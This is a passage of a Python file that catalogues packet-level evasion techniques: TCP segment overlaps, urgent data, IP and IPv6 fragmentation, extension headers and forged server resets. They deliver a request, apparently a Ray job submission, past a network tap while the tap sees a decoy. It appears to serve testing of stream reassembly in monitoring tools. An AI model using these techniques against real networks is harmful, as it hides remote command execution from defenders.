        c.seg(P | A, b"z" * 50, seq=(c.cs + k) & M32, ttl=1)
    c.send(R0)
    done(c)


@trick(False)
def two_interleaved(w):
    a, b = w.conn(isn=700000).open(), w.conn(isn=700010).open()
    for i in range(0, N, 20):
        a.send(R0[i:i + 20])
        b.send(DECOY[i:i + 20])
    b.rx(0.05)
    a.rx(0.05)
    a.got += b.got
    done(a)
    return a


def again(w, end, gap, isn=None):
    c = w.conn().open()
    c.send(GET)
    c.rx(0.2, b"ray_version")
    c.rx(0.02)
    end(c)
    c.rx(gap)
    c.isn = c.cs = (c.cs + 100000) & M32 if isn is None else isn
    c.got = b""
    c.open()
    c.send(R0)
    done(c)


def closes(c):
    c.fin()
    c.rx(0.05)


@trick()
def reuse_after_fin(w):
    again(w, closes, 0)


@trick()
def reuse_after_fin_1s(w):
    again(w, closes, 1)


@trick()
def reuse_after_rst(w):
    again(w, lambda c: c.seg(R | A), 0)


@trick()
def reuse_after_rst_lower(w):
    again(w, lambda c: c.seg(R | A), 0.02, 1000)


@trick()
def reuse_after_rst_half_sent(w):
    def end(c):
        c.send(OTHER[:CMD])
        c.rx(0.02)
        c.seg(R | A)
    again(w, end, 0.02)


@trick()
def reuse_same_isn(w):
    c = w.conn().open()
    c.send(DECOY[:-4])
    c.rx(0.02)
    c.seg(R | A)
    c.cs = c.isn
    c.open()
    c.send(R0)
    done(c)


# --- overlaps: two copies of a part of the command, in all arrangements (Novak and Sturges 2007), behind a hole and in order

ARRANGED = {
    "equal": ((0, 16), (0, 16)), "inside": ((0, 24), (8, 16)), "around": ((8, 16), (0, 24)), "left": ((8, 24), (0, 16)), "right": ((0, 16), (8, 24)),
    "begins": ((0, 16), (0, 24)), "begun": ((0, 24), (0, 16)), "ends": ((8, 24), (0, 24)), "ended": ((0, 24), (8, 24)),
}


def arranged(first, second, bad_first, hole, ttl=64):
    def part(r, other):
        b = bytearray(R0)
        x, y = max(first[0], second[0]), min(first[1], second[1])
        if other:
            b[CMD + x:CMD + y] = OTHER[CMD + x:CMD + y]
        return bytes(b[CMD + r[0]:CMD + r[1]])

    def f(w):
        c = w.conn().open()
        if not hole:
            c.send(R0[:CMD])
            c.cs -= CMD
        c.seg(P | A, part(first, bad_first), seq=c.cs + CMD + first[0], ttl=ttl if bad_first else 64)
        c.seg(P | A, part(second, not bad_first), seq=c.cs + CMD + second[0], ttl=64 if bad_first else ttl)
        c.seg(P | A, R0[CMD + 24:], seq=c.cs + CMD + 24)
        lo, hi = min(first[0], second[0]), max(first[1], second[1])
        if hi < 24:
            c.seg(P | A, R0[CMD + hi:CMD + 24], seq=c.cs + CMD + hi)
        if hole:
            c.seg(P | A, R0[:CMD + lo])
        elif lo:
            c.seg(P | A, R0[CMD:CMD + lo], seq=c.cs + CMD)
        c.cs += N
        done(c)
    return f


for k, (a, b) in ARRANGED.items():
    for bad_first in True, False:
        for hole in True, False:
            TRICKS["overlap_%s_%s_%s" % (k, "hole" if hole else "order", "bad1" if bad_first else "bad2")] = (arranged(a, b, bad_first, hole), None)


@trick(True)
def overlap_three(w):
    c = w.conn().open()
    c.seg(P | A, OTHER[CMD + 4:CMD + 12], seq=c.cs + CMD + 4)
    c.seg(P | A, R0[CMD:CMD + 20], seq=c.cs + CMD)
    c.seg(P | A, OTHER[CMD + 2:CMD + 24], seq=c.cs + CMD + 2)
    c.seg(P | A, R0[CMD + 10:], seq=c.cs + CMD + 10)
    c.seg(P | A, R0[:CMD])
    c.cs += N
    done(c)


@trick()
def overlap_filled_over(w):  # what fills the hole covers what waits behind it
    c = w.conn().open()
    c.seg(P | A, OTHER[CMD:], seq=c.cs + CMD)
    c.rx(0.02)
    c.seg(P | A, R0)
    c.cs += N
    done(c)


@trick()
def overlap_one_byte(w):
    c = w.conn().open()
    for i in reversed(range(0, N, 8)):
        c.seg(P | A, b"z" + R0[i:i + 8], seq=c.cs + i - 1)
    c.cs += N
    done(c)


@trick()
def overlap_one_byte_right(w):
    c = w.conn().open()
    for i in range(0, N, 8):
        c.seg(P | A, R0[i:i + 8] + b"z" * (i + 8 < N), seq=c.cs + i)
    c.cs += N
    done(c)


@trick()
def overlap_split_rows(w):
    c = w.conn().open()
    c.send(R0[:CMD])
    c.cs -= CMD
    for i in range(CMD, N, 6):
        c.seg(P | A, R0[i:i + 6], seq=c.cs + i)
        c.seg(P | A, OTHER[i:i + 12], seq=c.cs + i)
        c.seg(P | A, R0[i:i + 12], seq=c.cs + i)
    c.cs += N
    done(c)


# --- urgent data

@trick(True)
def urg(w):
    c = w.conn().open()
    c.send(R0[:30])
    c.seg(P | A | U, b"Z" + R0[30:], urg=1)
    c.cs += 1 + N - 30
    done(c)


def urgent(name, marks, send):
    """marks are places of R0 where a Z comes in, which is out of band."""
    q, at = b"", []
    for i in range(N + 1):
        if i in marks:
            at.append(len(q))
            q += b"Z"
        q += R0[i:i + 1]

    def f(w):
        c = w.conn().open()
        send(c, q, at)
        c.cs += len(q)
        done(c)
    TRICKS["urg_" + name] = (f, None)


def urg_each(c, q, at):
    cut = [*at, len(q)]
    c.seg(P | A, q[:at[0]])
    for i, u in enumerate(at):
        c.rx(0.03)
        c.seg(P | A | U, q[u:cut[i + 1]], seq=c.cs + u, urg=1)


K = R0.index(b"entrypoint") + 5
urgent("several", [20, 90, K, CMD + 5], urg_each)
urgent("ahead", [K], lambda c, q, at: (c.seg(P | A | U, q[:30], urg=at[0] + 1), c.seg(P | A, q[30:], seq=c.cs + 30)))
urgent("beyond", [K], lambda c, q, at: (c.seg(P | A, q[:K - 3]), c.seg(P | A | U, q[K - 3:K - 1], seq=c.cs + K - 3, urg=4), c.seg(P | A, q[K - 1:], seq=c.cs + K - 1)))
urgent("empty_ack", [K], lambda c, q, at: (c.seg(A | U, urg=at[0] + 1), c.rx(0.02), c.seg(P | A, q)))
urgent("old_segment", [K], lambda c, q, at: (c.seg(P | A, q[:30]), c.seg(P | A | U, q[:30], urg=at[0] + 1), c.seg(P | A, q[30:], seq=c.cs + 30)))
urgent("repeated", [K], lambda c, q, at: [c.seg(P | A | U, q[i:i + 20], seq=c.cs + i, urg=max(at[0] + 1 - i, 0)) for i in range(0, len(q), 20)])
urgent("behind_hole", [K], lambda c, q, at: (c.seg(P | A | U, q[50:], seq=c.cs + 50, urg=at[0] + 1 - 50), c.seg(P | A, q[:50])))
urgent("last_byte", [K], lambda c, q, at: (c.seg(P | A | U, q[:at[0] + 1], urg=at[0] + 1), c.seg(P | A, q[at[0] + 1:], seq=c.cs + at[0] + 1)))
urgent("pointer0", [K], lambda c, q, at: (c.seg(P | A, q[:at[0]]), c.seg(P | A | U, q[at[0]:], seq=c.cs + at[0], urg=0)))
# The pointer is moved on before the first byte is read: that one stays in the stream.
urgent("moved", [K], lambda c, q, at: (
    c.seg(P | A | U, q[60:at[0]], seq=c.cs + 60, urg=CMD + 20 - 60), c.seg(P | A | U, q[at[0]:at[0] + 1], seq=c.cs + at[0], urg=1),
    c.seg(P | A, q[at[0] + 1:], seq=c.cs + at[0] + 1), c.seg(P | A, q[:60])))
urgent("pointer_over_real", [CMD + 9], lambda c, q, at: (
    c.seg(P | A | U, q[CMD - 8:CMD], seq=c.cs + CMD - 8, urg=4), c.seg(P | A | U, q[CMD:], seq=c.cs + CMD, urg=at[0] - CMD + 1), c.seg(P | A, q[:CMD - 8])))
urgent("ttl1", [K], lambda c, q, at: (c.seg(P | A | U, q[:40], urg=20, ttl=1), c.seg(P | A | U, q, urg=at[0] + 1)))
urgent("ttl1_only", [], lambda c, q, at: (c.seg(P | A, q[:40]), c.seg(P | A | U, q[40:], seq=c.cs + 40, urg=K - 40, ttl=1), c.seg(P | A, q[40:], seq=c.cs + 40)))
urgent("fin", [K], lambda c, q, at: c.seg(P | A | U | F, q, urg=at[0] + 1))
urgent("copy_without", [K], lambda c, q, at: (c.seg(P | A, q, ttl=1), c.seg(P | A | U, q, urg=at[0] + 1)))
urgent("syn", [], lambda c, q, at: c.seg(P | A, q))


@trick()
def urg_many_before(w):  # pointers beyond all that comes
    c = w.conn().open()
    for i in range(20):
        c.seg(P | A | U, R0[:10], urg=5000 + i, ttl=1)
    c.seg(P | A | U, R0[:K] + b"Z" + R0[K:], urg=K + 1)
    c.cs += N + 1
    done(c)


@trick()
def urg_moved_within_one(w):  # of two pointers behind a hole the further one counts
    c = w.conn().open()
    q = R0[:K] + b"Z" + R0[K:]
    c.seg(P | A | U, q[40:60], seq=c.cs + 40, urg=CMD - 30)
    c.seg(P | A | U, q[60:], seq=c.cs + 60, urg=K + 1 - 60)
    c.seg(P | A, q[:40])
    c.cs += N + 1
    done(c)


@trick()
def urg_copy_elsewhere(w):  # two copies whose urgent bytes differ
    c = w.conn().open()
    q = R0[:K] + b"Z" + R0[K:]
    c.seg(P | A | U, q, urg=30, ttl=1)
    c.seg(P | A | U, q, urg=K + 1)
    c.cs += N + 1
    done(c)


@trick()
def urg_and_decoy(w):  # urgent data in bytes that were sent twice
    c = w.conn().open()
    q = R0[:K] + b"Z" + R0[K:]
    c.seg(P | A, DECOY + b"\n", ttl=1)
    c.seg(P | A | U, q, urg=K + 1)
    c.cs += N + 1
    done(c)


@trick()
def urg_in_third_ack(w):
    c = w.conn().open(ack=False)
    q = R0[:K] + b"Z" + R0[K:]
    c.seg(A | U, urg=K + 1)
    c.rx(0.02)
    c.send(q)
    done(c)


# --- slow writers

@trick(False)
def slow(w):
    c = w.conn().open()
    for i in range(0, N, 50):
        c.send(R0[i:i + 50])
        c.rx(0.6)
    done(c)


@trick()
def slow_retransmits(w):
    c = w.conn().open()
    c.seg(P | A, OTHER[CMD:], seq=c.cs + CMD, ttl=1)
    c.rx(1.2)
    c.seg(P | A, R0[CMD:], seq=c.cs + CMD)
    c.rx(1.2)
    c.seg(P | A, R0[:CMD], ttl=3)
    c.cs += N
    done(c)


@trick()
def slow_8s(w):
    c = w.conn().open()
    c.send(R0[:CMD])
    c.rx(8)
    c.seg(P | A, OTHER[CMD:], ttl=1)
    c.rx(0.3)
    c.send(R0[CMD:])
    done(c)


# --- fragments

def frags(c, data, cuts, fl=P | A, ident=None, order=None, ip=None, send=True, **k):
    """A segment in fragments that end at cuts."""
    ident = ident if ident is not None else c.port ^ 0x5555
    b = c.segment(fl, data, **k)
    cuts = [0, *[x for x in cuts if x < len(b)], len(b)]
    out = [(cuts[i], b[cuts[i]:cuts[i + 1]], cuts[i + 1] < len(b)) for i in range(len(cuts) - 1)]
    for i in order or range(len(out)):
        off, d, more = out[i]
        frag(c, off, d, more, ident, **(ip or {}))
    return b


def frag(c, off, d, more, ident, **k):
    if ":" in c.c:
        h = struct.pack("!BBHI", k.pop("nxt", 6), 0, off | more, ident)
        c.w.send(ip6(c.c, c.s, h + d, 44, **k))
    else:
        c.w.send(ip4(c.c, c.s, d, ident=ident & 0xFFFF, frag=off, flags=1 if more else 0, **k))


def fragged(name, f, v6=(False, True), speaks=None):
    for six in v6:
        def g(w, six=six):
            c = w.conn(v6=six).open()
            f(c)
            c.cs += N
            done(c)
        TRICKS[name + ("6" if six else "")] = (g, speaks)


def other_of(c, **k):
    return c.segment(P | A, OTHER, **k)


fragged("frag", lambda c: frags(c, R0, [40, 120]), speaks=False)
fragged("frag_tiny", lambda c: frags(c, R0, range(8, 400, 8)), [False])
fragged("frag_reverse", lambda c: frags(c, R0, [40, 80, 120], order=[3, 2, 1, 0]))
fragged("frag_small", lambda c: frags(c, R0, range(24, 400, 24)))


def doubled(c):
    b = c.segment(P | A, R0)
    for _ in range(2):
        frag(c, 0, b[:80], True, 77)
    frag(c, 80, b[80:], False, 77)


fragged("frag_doubled", doubled)


def inner(c):  # what is inside of what is there is dropped alone, the rest is put together (IPFRAG_DUP)
    b, o = c.segment(P | A, R0), other_of(c)
    cut = (CMD + 20) // 8 * 8
    frag(c, 0, b[:cut + 40], True, 78)
    frag(c, cut, o[cut:cut + 16], True, 78)
    frag(c, cut + 40, b[cut + 40:], False, 78)


def inner_first(c):
    b, o = c.segment(P | A, R0), other_of(c)
    cut = (CMD + 20) // 8 * 8
    frag(c, cut, o[cut:cut + 16], True, 79)
    frag(c, 0, b[:cut + 40], True, 79)  # more than that: all of it is dropped
    frag(c, cut + 40, b[cut + 40:], False, 79)
    c.rx(0.03)
    c.seg(P | A, R0)


def partly(c):  # one shares bytes with another: the datagram is dropped, and what comes then is another
    b, o = c.segment(P | A, R0), other_of(c)
    frag(c, 0, o[:96], True, 80)
    frag(c, 80, o[80:], False, 80)
    c.rx(0.02)
    frag(c, 0, b[:96], True, 80)
    frag(c, 96, b[96:], False, 80)


def partly_then_rest(c):
    b, o = c.segment(P | A, R0), other_of(c)
    frag(c, 0, o[:96], True, 81)
    frag(c, 160, o[160:168], True, 81)
    frag(c, 88, b"z" * 16, True, 81)  # overlaps: dead
    frag(c, 96, b[96:], False, 81)
    frag(c, 0, b[:96], True, 81)


def twice_partly(c):  # it dies twice
    b, o = c.segment(P | A, R0), other_of(c)
    for _ in range(2):
        frag(c, 0, o[:96], True, 82)
        frag(c, 88, o[88:104], True, 82)
    frag(c, 0, b[:96], True, 82)
    frag(c, 96, b[96:], False, 82)


def three_times(c):
    b, o = c.segment(P | A, R0), other_of(c)
    for i in range(5):
        frag(c, 0, o[:96], True, 83)
        frag(c, 88, o[88:104], True, 83)
        frag(c, 96, o[96:112], True, 83)
        frag(c, 88, o[88:128], True, 83)
    frag(c, 0, b[:96], True, 83)
    frag(c, 96, b[96:], False, 83)


def ttl1_first(c):
    b, o = c.segment(P | A, R0), other_of(c)
    frag(c, 0, o[:96], True, 84, ttl=1)
    frag(c, 96, o[96:], False, 84, ttl=1)
    frag(c, 0, b[:96], True, 84)
    frag(c, 96, b[96:], False, 84)


def ttl1_last(c):
    b, o = c.segment(P | A, R0), other_of(c)
    frag(c, 96, o[96:], False, 85, ttl=1)
    frag(c, 0, b[:96], True, 85)
    frag(c, 96, b[96:], False, 85)


def ttl1_mixed(c):
    b, o = c.segment(P | A, R0), other_of(c)
    frag(c, 0, o[:96], True, 86, ttl=1)
    frag(c, 0, b[:96], True, 86)
    frag(c, 96, b[96:], False, 86)
    frag(c, 96, o[96:], False, 86, ttl=1)


def longer_ttl1(c):  # a bad fragment that says that more is to come
    b = c.segment(P | A, R0)
    frag(c, 8000, b"z" * 64, False, 87, ttl=1)
    frag(c, 0, b[:96], True, 87)
    frag(c, 96, b[96:], False, 87)


def shorter_ttl1(c):
    b = c.segment(P | A, R0)
    frag(c, 0, b[:64], True, 88)
    frag(c, 64, b[64:96], False, 88, ttl=1)
    frag(c, 64, b[64:128], True, 88)
    frag(c, 128, b[128:], False, 88)


def ids(c):  # of two datagrams, one by one
    b, o = c.segment(P | A, R0), other_of(c, cs="bad")
    for off, end in (0, 80), (80, 160), (160, 9999):
        frag(c, off, o[off:end], end < 9999, 90)
        frag(c, off, b[off:end], end < 9999, 91)


def badsum_first(c):
    b, o = c.segment(P | A, R0), other_of(c, cs="bad")
    frag(c, 0, o[:96], True, 92)
    frag(c, 96, o[96:], False, 92)
    c.rx(0.02)
    frag(c, 0, b[:96], True, 92)
    frag(c, 96, b[96:], False, 92)


def seg_between(c):
    b, o = c.segment(P | A, R0), other_of(c)
    frag(c, 0, o[:96], True, 93, ttl=1)
    frag(c, 96, o[96:], False, 93, ttl=1)
    frag(c, 0, b[:96], True, 94)
    frag(c, 96, b[96:], False, 94)
    c.seg(P | A, OTHER)


def ecn(c):  # congestion was met in one and cannot be in the other: dropped (RFC 3168 section 5.3)
    b, o = c.segment(P | A, R0), other_of(c)
    frag(c, 0, o[:96], True, 95, tos=0)
    frag(c, 96, o[96:], False, 95, tos=3)
    c.rx(0.02)
    frag(c, 0, b[:96], True, 95)
    frag(c, 96, b[96:], False, 95)
    c.seg(P | A, OTHER)


def odd_length(c):  # a fragment that is not the last is cut to eight bytes, IPv6 drops it
    b = c.segment(P | A, R0)
    frag(c, 0, b[:96] + b"zzz", True, 96)
    frag(c, 96, b[96:], False, 96)


def other_proto(c):
    b = c.segment(P | A, R0)
    frag(c, 0, b[:96], True, 97)
    frag(c, 0, b"\0" * 96, True, 97, **({"nxt": 17} if ":" in c.c else {"proto": 17}))
    frag(c, 96, b[96:], False, 97)


def timeout(c):
    b, o = c.segment(P | A, R0), other_of(c)
    frag(c, 0, o[:96], True, 98)
    c.rx(31 if ":" not in c.c else 61)
    frag(c, 96, b[96:], False, 98)
    frag(c, 0, b[:96], True, 98)


def timeout_twice(c):
    b, o = c.segment(P | A, R0), other_of(c)
    for _ in range(2):
        frag(c, 0, o[:96], True, 99)
        c.rx(31)
    frag(c, 96, b[96:], False, 99)
    frag(c, 0, b[:96], True, 99)


def zero_length(c):
    b = c.segment(P | A, R0)
    frag(c, 0, b[:96], True, 100)
    frag(c, 96, b"", True, 100)
    frag(c, 96, b[96:], False, 100)


def overflow(c):
    b = c.segment(P | A, R0)
    frag(c, 0, b[:96], True, 101)
    frag(c, 65528, b"z" * 200, False, 101)
    frag(c, 96, b[96:], False, 101)


def many_open(c):
    b = c.segment(P | A, R0)
    frag(c, 0, b[:96], True, 5000)
    for i in range(300):
        frag(c, 800, b"z" * 8, True, 6000 + i, ttl=1)
    frag(c, 96, b[96:], False, 5000)


for f in inner, inner_first, partly, partly_then_rest, twice_partly, three_times, ttl1_first, ttl1_last, ttl1_mixed, longer_ttl1, shorter_ttl1, ids, \
        badsum_first, seg_between, ecn, odd_length, other_proto, zero_length, overflow, many_open:
    fragged("frag_" + f.__name__, f)
fragged("frag_timeout", timeout)
fragged("frag_timeout_twice", timeout_twice, [False])
fragged("frag_atomic", lambda c: frags(c, R0, []), [True])


def tiny_first(c):  # without all of the header: dropped (RFC 7112)
    b, o = c.segment(P | A, R0), other_of(c)
    frag(c, 0, o[:8], True, 110)
    frag(c, 8, o[8:], False, 110)
    c.rx(0.02)
    c.seg(P | A, R0)
    c.seg(P | A, OTHER)


def ext(c, nxt, h, data=R0, **k):
    c.w.send(ip6(c.c, c.s, h + c.segment(P | A, data), nxt, **k))


DST = bytes([6, 0, 1, 4, 0, 0, 0, 0])
fragged("six_tiny_first", tiny_first, [True])
fragged("six_destination", lambda c: ext(c, 60, DST), [True])
fragged("six_hopbyhop", lambda c: ext(c, 0, DST), [True])
fragged("six_several", lambda c: ext(c, 60, bytes([60, 0, 1, 4, 0, 0, 0, 0]) * 4 + DST), [True])
fragged("six_fragment_destination", lambda c: ext(c, 44, struct.pack("!BBHI", 60, 0, 0, 7) + DST), [True])
for n, nxt, h in ("routing0", 43, bytes([6, 2, 0, 1, 0, 0, 0, 0]) + b"\xfd\0\0\x0a" + b"\0" * 11 + b"\x63"), ("unknown", 253, DST), \
        ("dst_unknown", 60, bytes([6, 0, 0xC1, 4, 0, 0, 0, 0])), ("dst_long", 60, bytes([6, 30, 1, 4, 0, 0, 0, 0])), ("hop_late", 60, bytes([0, 0, 1, 4, 0, 0, 0, 0]) + DST):
    fragged("six_decoy_" + n, lambda c, nxt=nxt, h=h: (ext(c, nxt, h, DECOY), c.seg(P | A, R0), c.seg(P | A, DECOY)), [True])
    fragged("six_decoy_only_" + n, lambda c, nxt=nxt, h=h: (ext(c, nxt, h, DECOY), c.rx(0.02), c.seg(P | A, R0)), [True])


# --- forged in the name of the server: a tap cannot tell by the packet alone

def forged(name, f, at=30):
    def g(w):
        c = w.conn().open()
        c.send(R0[:at])
        c.rx(0.05)
        f(c)
        c.rx(0.05)
        c.send(R0[at:])
        done(c)
    TRICKS["forged_" + name] = (g, None)


forged("rst", lambda c: c.spoof(R | A))
forged("rst_first", lambda c: c.spoof(R | A), 0)
forged("fin", lambda c: c.spoof(F | A))
forged("ack_ahead", lambda c: c.spoof(A, ack=c.cs + 5000))
forged("decoy_acked", lambda c: (c.seg(P | A, OTHER[30:], ttl=1), c.spoof(A, ack=c.cs + N - 30)))
forged("decoy_acked_first", lambda c: (c.seg(P | A, DECOY, ttl=1), c.spoof(A, ack=c.cs + N)), 0)
forged("answer", lambda c: (c.seg(P | A, DECOY, ttl=1), c.spoof(P | A, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}", ack=c.cs + N)), 0)
forged("window0", lambda c: c.spoof(A, win=0))
forged("window1", lambda c: c.spoof(A, win=1), 0)
forged("data_ahead", lambda c: c.spoof(P | A, b"z" * 100, seq=c.ss + 500))
